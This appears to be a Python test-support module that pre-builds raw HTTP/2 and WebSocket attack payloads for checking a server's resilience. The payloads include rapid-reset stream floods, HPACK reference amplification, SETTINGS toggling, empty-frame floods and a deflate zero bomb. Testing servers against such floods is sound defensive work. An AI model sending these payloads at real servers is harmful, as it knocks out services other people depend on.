"""What attackers send: bytes, made before the attack, so that sending them costs little."""

from __future__ import annotations

import zlib
from collections.abc import Callable
from typing import Final

from hyperframe.frame import DataFrame, ExtensionFrame, HeadersFrame, RstStreamFrame, SettingsFrame

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SettingsFrame(0).serialize()

# GET, http, the authority x, and no path yet, for HPACK; a path that is not indexed.
_PSEUDO: Final = b"\x82\x86\x01\x01x"


def literal(name: int, value: bytes) -> bytes:
    """Return a field of HPACK's static table with a value, not indexed."""
    return bytes([name, len(value)]) + value


def request(stream_id: int, block: bytes, *, end: bool = True) -> bytes:
    """Return a HEADERS frame with a whole block."""
    frame = HeadersFrame(stream_id, block)
    frame.flags.add("END_HEADERS")
    if end:
        frame.flags.add("END_STREAM")
    return frame.serialize()


SSE: Final = _PSEUDO + literal(4, b"/sse")
SILENT: Final = _PSEUDO + literal(4, b"/silent")
UPLOAD: Final = b"\x83\x86\x01\x01x" + literal(4, b"/upload")

HANDSHAKE: Final = (
    b"GET /ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n"
)


def fragment(first: int, data: bytes = b"") -> bytes:
    """Return a WebSocket frame, its flags and type as given, masked with zeros."""
    size = len(data)
    if size < 126:
        return bytes([first, 0x80 | size]) + bytes(4) + data
    return bytes([first, 0xFF]) + size.to_bytes(8, "big") + bytes(4) + data


def bomb(size: int) -> bytes:
    """Return a WebSocket message of so many zeros, deflated."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = compressor.compress(bytes(size)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    return fragment(0xC2, data[:-4])


def _references() -> tuple[bytes, bytes]:
    """A field of 3.9 kB, then sixteen references to it in requests without a proper path."""
    large = b"\x60\x7f" + _integer(3900 - 127) + b"x" * 3900  # cookie, indexed
    first = request(1, SILENT + large)
    block = _PSEUDO + literal(4, b"?x") + b"\xbe" * 16
    return first, b"".join(request(number, block) for number in range(3, 4001, 2))


def _integer(value: int) -> bytes:
    """Return the rest of an HPACK integer."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def _toggled() -> tuple[bytes, bytes]:
    streams = b"".join(request(number, SILENT) for number in range(1, 201, 2))
    pair = [SettingsFrame(0, settings={4: value}).serialize() for value in (0, 65535)]
    return streams, b"".join(pair) * 1000


# Name: what is sent at first, and what again and again.
FLOODS: Final[dict[str, Callable[[], tuple[bytes, bytes]]]] = {
    "1-byte chunks": lambda: (
        b"POST /upload HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"1\r\na\r\n" * 10_000,
    ),
    "HPACK references, refused": lambda: (PREFACE + _references()[0], _references()[1]),
    "empty DATA": lambda: (
        PREFACE + request(1, UPLOAD, end=False),
        DataFrame(1).serialize() * 5000,
    ),
    "unknown frames": lambda: (PREFACE, ExtensionFrame(250, 0, 0, b"").serialize() * 5000),
    "toggled SETTINGS, 100 streams": lambda: (PREFACE + _toggled()[0], _toggled()[1]),
    "requests taken back": lambda: (
        PREFACE,
        b"".join(
            request(number, SILENT) + RstStreamFrame(number, error_code=8).serialize()
            for number in range(1, 8001, 2)
        ),
    ),
    "empty WebSocket fragments": lambda: (HANDSHAKE, fragment(1) + fragment(0) * 10_000),
}


def headers_by_reference(fields: int) -> bytes:
    """Return 100 streams, each with so many fields of a byte each on the wire."""
    small = b"\x40\x01a\x01b"
    blocks = [SSE + small + b"\xbe" * fields, *[SSE + b"\xbe" * fields] * 99]
    return PREFACE + b"".join(request(2 * number + 1, block) for number, block in enumerate(blocks))


def early_websockets(count: int) -> list[bytes]:
    """Return handshakes on streams of one connection, each with DATA right behind it."""
    block = (
        b"\x02\x07CONNECT\x86\x01\x01x"
        + literal(4, b"/ws")
        + b"\x00\x09:protocol\x09websocket\x00\x15sec-websocket-version\x0213"
    )
    return [
        request(number, block, end=False) + DataFrame(number, fragment(0x81, b"hi")).serialize()
        for number in range(1, 2 * count + 1, 2)
    ]


TAKEN_BACK: Final = b"".join(
    request(number, SSE) + RstStreamFrame(number, error_code=8).serialize()
    for number in range(2003, 2013, 2)
)
NOT_ASCII: Final = _PSEUDO + literal(4, "/h\u00e9".encode())
